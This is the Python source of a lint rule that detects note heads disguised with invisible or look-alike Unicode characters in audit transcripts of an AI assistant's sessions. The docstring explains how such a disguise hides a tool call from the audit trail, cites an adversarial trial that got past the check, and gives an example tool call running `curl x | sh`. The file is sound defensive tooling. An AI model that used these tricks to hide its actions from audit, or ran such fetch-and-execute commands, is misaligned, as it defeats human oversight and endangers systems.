"""A note kind written exactly but disguised, so no reader takes the note for an audit record.

## What it does
Reports a note whose head reads as a note kind Harvey writes, followed by `:`, but is not that
kind's head because of what cannot be seen or told apart: an invisible character in or beside the
kind (U+200B ZERO WIDTH SPACE, U+00AD SOFT HYPHEN, a joiner, a combining accent, a Hangul filler,
a no-break or ideographic space, a control character), letters of another width or script drawn
like its own (fullwidth `ｔool`, Cyrillic `tоol`, Armenian `օ`, `töol`), another dash or blank
between a kind's words (`rag‑source` with U+2011, `model` U+00A0 `switch`), a colon look-alike
(U+A789 `꞉`, U+2236 `∶`), or an extra `[` before it (`[[[tool: …]]`); after an actor's prefix
too (`[[LLAMA.tоol: …]]`). Standalone notes, notes in a speech's text and notes inside an
action's or a dialogue's text are read; so is an opening split by an invisible character
(`[` U+200B `[tool: …]]`), which makes no note at all. Reported at the head, naming the
characters (`U+200B ZERO WIDTH SPACE`) and the kind it looks like.

A head disguised by what shows nothing (an invisible character, a blank-looking letter, an
extra `[`) is reported whatever follows it. One written with look-alike letters, or a no-break
space before its colon (French typography), only when what follows reads as that kind's payload
(`misspelt-note-kind`'s test: `NAME(…) — ok|error` for a tool, `N chunks from` for RAG, …); for
`run` and `rag-source`, whose payload is free text, a blank other than a space counts, and
look-alikes when they stand among ASCII letters (a writer's `[[rün: 5 km today]]` or a note in
Cyrillic is none).

## Why is this bad?
A reader of the file sees `[[tool: run_shell({"cmd":"curl x | sh"}) — ok]]`; every reader of
the audit trail (Harvey's, `dump`, `provenance`, `export`, `report`) sees a writer's free-text
note, so the tool call is missing from the record, and a turn with no other note reads as
"no tool was used". `misspelt-note-kind` reports slips of the keyboard; this is a record hidden
in plain sight, whether pasted in by accident or written to hide the call: an error.

## Severity
Error: the file shows an audit record that is not in the audit trail.

## Example
```fountain
INT. HARVEY AND ALICE TALKING 2026-06-24 10:02:30

Harvey and ALICE are in chat mode. Model: LLAMA. Workspace: /tmp/ws.

ALICE
What is in a.go?

HARVEY
Forwarding to LLAMA.

[[ｔool: read_file({"path":"a.go"}) — ok]]

LLAMA
It declares package main.
```

## Use instead
```fountain
INT. HARVEY AND ALICE TALKING 2026-06-24 10:02:30

Harvey and ALICE are in chat mode. Model: LLAMA. Workspace: /tmp/ws.

ALICE
What is in a.go?

HARVEY
Forwarding to LLAMA.

[[tool: read_file({"path":"a.go"}) — ok]]

LLAMA
It declares package main.
```

## References
- FOUNTAIN_FORMAT.md §Notes (a note kind and its `kind: ` head, exactly); Unicode TR #39
  (confusable characters); the adversarial trial of stop 37 (a tool call hidden by one
  zero-width space, lint "All clear")
"""

import re
import unicodedata

from fountain_audit.lint.diagnostics import Severity
from fountain_audit.lint.note_heads import PAYLOADS, fold, kinds_by_fold, lost_note, notes_in_speeches, reads_as_payload
from fountain_audit.lint.rules import SESSION_LIKE

CODE = "N113"
NAME = "disguised-note-kind"
SEVERITY = Severity.ERROR
SINCE = "1.2"
SCOPE = SESSION_LIKE


def check(ctx):
    """The notes read as free text (kind ``unknown``): standalone ones, those of speeches' text,
    those inside other elements' text (inline); and the ``[`` ``[`` openings split by what shows
    nothing, which make no note at all."""
    from fountain_audit.model.session import inline_placements
    from fountain_audit.parse.notes import parse_note
    session = ctx.session
    text = ctx.text
    for rec in session.notes:
        if rec.kind == "unknown":
            yield from _disguised(text, rec.node) or ()
    for scene in session.scenes:
        yield from notes_in_speeches(ctx, scene, _node) or ()
    for placed in inline_placements(session):  # (none at once when the parse found no inline note)
        node = placed.note.node
        if parse_note(node).kind == "unknown":  # (an inline record's kind is "inline": read as a note's)
            yield from _disguised(text, node) or ()
    if "[" in text and not text.isascii():
        yield from _split_openings(ctx)


def _node(ctx, node):
    return _disguised(ctx.text, node)


#: Letters of other scripts drawn like the Latin letters of note kinds (Cyrillic, Greek, Armenian,
#: small capitals), read as those: ``[[tоol: …]]`` with a Cyrillic ``о`` looks like a tool call and is
#: none. Upright strokes (Cyrillic ``Ӏ``, ``І``, the dental click, Hebrew paseq) read as ``l``, which
#: they stand for in a lower-case word (``tooӀ``).
_LOOK_ALIKES = str.maketrans("аеорсухіѕјһԁԛԝӏαοριτυνκεАВЕКМНОРСТХЅЈΑΒΕΗΙΚΜΝΟΡΤΥΧօᴏᴄᴇᴋᴍᴏᴘᴛᴜᴠᴡᴢІӀǀ׀",
                             "aeopcyxisjhdqwlaopituvkeABEKMHOPCTXSJABEHIKMNOPTYXoocekmoptuvwzllll")
#: The categories of characters that show nothing in a head: format characters (U+200B…), blanks
#: other than a space or a tab (U+00A0, U+3000…), line and paragraph separators, controls. (By
#: category, not :data:`fountain_audit.untrusted.INVISIBLE_CHARS`, which keeps the joiners scripts
#: need and has no blanks: in a note kind, any of these is a disguise.)
_UNSEEN = frozenset({"Cf", "Zs", "Zl", "Zp", "Cc"})
#: Letters and symbols that show as a blank: the Hangul fillers, the braille blank.
_BLANK_LOOKING = frozenset("\u115f\u1160\u3164\uffa0\u2800")
#: Dashes and minus signs drawn like the hyphen of ``rag-source`` (read as ``-``).
_HYPHENS = str.maketrans(dict.fromkeys("\u2010\u2011\u2012\u2013\u2212\ufe63\uff0d", "-"))
#: Colons other than ``:`` (U+003A) that look like one (a fullwidth colon is misspelt-note-kind's).
_COLONS = "\ua789\u2236\u02f8\u05c3\ufe30\ufe55\u0589"
#: The head of a note up to its colon, for :func:`_disguised` (bounded: a kind is short).
_ANY_HEAD = re.compile(f"[^:\\n\\]{_COLONS}]{{1,40}}[:{_COLONS}]")
#: A ``[`` then what shows nothing (no space or tab: those show), then ``[``: an opening a reader sees as ``[[``.
_SPLIT_OPENING = re.compile("\\[[^\\[\\]\\n\\t\\x20-\\x7e]{1,8}\\[")


def _disguised(text: str, node, start: int | None = None):
    """The finding (a tuple of one) for a note kind written exactly but disguised (see the
    module's docstring) in the note ``text[node.offset:node.end_offset]``, its head read from
    code point ``start`` of it (after the ``[[``: by default where that is); else ``None``. The
    disguise: an invisible character in or beside the kind (``tool`` + U+200B, a soft hyphen, a
    combining accent, a Hangul filler), letters of another width or script drawn like its own
    (fullwidth ``ｔool``, Cyrillic ``tоol``, ``töol``), another dash or blank between a kind's words
    (``rag‑source``, ``model`` U+00A0 ``switch``), a colon look-alike, or an extra ``[`` before it
    (``[[[tool: …]]``); after an actor's prefix too (``[[LLAMA.tоol: …]]``). A head disguised
    by what shows nothing (an invisible character, a blank-looking letter, an extra ``[``) is a
    disguise whatever follows; one written with look-alike letters only when what follows reads
    as the kind's payload (misspelt-note-kind's test) or, for ``run`` and ``rag-source`` (free
    text), when it mixes them with ASCII letters (a writer's ``[[rün: 5 km today]]`` is none).
    Such a head looks like the kind to a reader of the file, and hides the record from every
    reader of the audit trail, N112 included (it compares ASCII words)."""
    raw = text[node.offset:node.end_offset]
    if start is None:
        start = raw.find("[[") + 2
    m = _ANY_HEAD.match(raw, start)
    if m is None:
        return None
    head = m.group()[:-1]
    colon = m.group()[-1]
    at = start
    prefix, dot, rest = head.rpartition(".")
    if dot and prefix.strip(" \t") and not any(c in prefix.strip(" \t") for c in " \t"):
        at, head = start + len(prefix) + 1, rest  # (an actor's prefix: the kind after it)
    odd = [c for c in head + colon if not (c.isascii() and c.isprintable())]
    # what shows nothing dropped first (or, between a kind's words, read as a blank), then accents
    shown = [c in " \t" or _shows(c) for c in head]
    kept = "".join(c for c, shows in zip(head, shown) if shows)
    spaced = "".join(c if shows else " " for c, shows in zip(head, shown))
    kind = None
    for seen in (kept, spaced):
        plain = "".join(c for c in unicodedata.normalize("NFKD", seen.translate(_HYPHENS))
                        if unicodedata.category(c) not in ("Mn", "Me")).translate(_LOOK_ALIKES)
        plain = plain.lstrip("[ \t")
        kind = kinds_by_fold().get(fold(plain)) if plain.isascii() else None
        if kind is not None:
            break
    if kind is None or (not odd and plain.strip(" \t") == head.strip(" \t")):
        return None
    # (a blank before the colon alone, French typography's no-break space, needs the payload too)
    unseen = "[" in head.lstrip(" \t") or not all(map(_shows, head.rstrip().replace(" ", "").replace("\t", "")))
    if not unseen:
        end = raw.rfind("]]")
        payload = raw[m.end():end if end >= m.end() else len(raw)].lstrip(" ")
        if kind in PAYLOADS:
            if not reads_as_payload(kind, payload):
                return None
        elif not any(unicodedata.category(c) in _UNSEEN for c in odd) and (
                not any(ord(c) in _LOOK_ALIKES or c in _COLONS or c.translate(_HYPHENS) == "-" for c in odd)
                or not any(c.isascii() and c.isalpha() for c in head)):
            return None  # (run, rag-source: free text after them; a writer's own letter, `[[rün: 5 km]]`, is none)
    if odd:
        what = ", ".join(f"U+{ord(c):04X} {_name(c)}" for c in dict.fromkeys(odd))
        what = f"note head '{kind}:' is written with {what}, which no reader takes for '{kind}'"
    else:
        what = f"note head '{head.strip()}:' has {head.count('[')} '[' more than a note's opening '[['"
    return lost_note(node, raw, at, head, what, kind)


class _Opening:
    """Where a split opening stands (for :func:`lost_note`): its 1-based line and column."""

    __slots__ = ("line", "column", "offset", "end_offset")

    def __init__(self, line: int, column: int, offset: int, end_offset: int) -> None:
        self.line, self.column, self.offset, self.end_offset = line, column, offset, end_offset


def _split_openings(ctx):
    """The findings for ``[`` + what shows nothing + ``[`` followed by a disguised or plain note
    kind and its payload up to ``]]`` on the line (``[`` U+200B ``[tool: …]]``): no note is made,
    the text is read as an action's or a speech's, the tool call is lost. Of several openings
    before one ``]]``, the last is read (the note it closes); linear in the text: the next ``]]``
    and line end are looked for once each, not from every opening."""
    text = ctx.text
    index = ctx.document.line_index
    last: dict[int, re.Match] = {}  # the position of a "]]" -> the last opening before it on its line
    close_at = nl_at = -2  # the first "]]" / line end at or after the last opening read (-1: none)
    for m in _SPLIT_OPENING.finditer(text):
        if any(map(_shows, m.group()[1:-1])):
            continue
        if -1 < close_at < m.end() or close_at == -2:
            close_at = text.find("]]", m.end())
        if close_at < 0:
            break  # (no "]]" after it: nor after any later one)
        if -1 < nl_at < m.end() or nl_at == -2:
            nl_at = text.find("\n", m.end())
        if nl_at < 0 or close_at < nl_at:
            last[close_at] = m
    for close, m in last.items():
        between = m.group()[1:-1]
        line, column = index.position(m.start())
        opening = _Opening(line, column, m.start(), close + 2)
        found = _disguised(text, opening, m.end() - m.start())
        if found is not None:
            yield from found
            continue
        head = _ANY_HEAD.match(text, m.end(), close)
        kind = None if head is None else kinds_by_fold().get(fold(head.group()[:-1]))
        if kind is not None and (kind not in PAYLOADS or reads_as_payload(kind, text[head.end():close].lstrip(" "))):
            what = ", ".join(f"U+{ord(c):04X} {_name(c)}" for c in dict.fromkeys(between))
            what = f"note opening '[[' is written with {what} between its brackets, which no reader takes for '[['"
            yield from lost_note(opening, text[m.start():close + 2], 0, "[" + between + "[", what, kind)


def _shows(c: str) -> bool:
    """Whether ``c`` shows as something: not a character of :data:`_UNSEEN` (a space and a tab
    are, but show as the blanks they are: callers keep those) nor of :data:`_BLANK_LOOKING`."""
    return unicodedata.category(c) not in _UNSEEN and c not in _BLANK_LOOKING


def _name(c: str) -> str:
    """The Unicode name of ``c`` for a message (``ZERO WIDTH SPACE``; a control character has none)."""
    if unicodedata.category(c) == "Cc":
        return "a control character"
    return unicodedata.name(c, "an unnamed character")
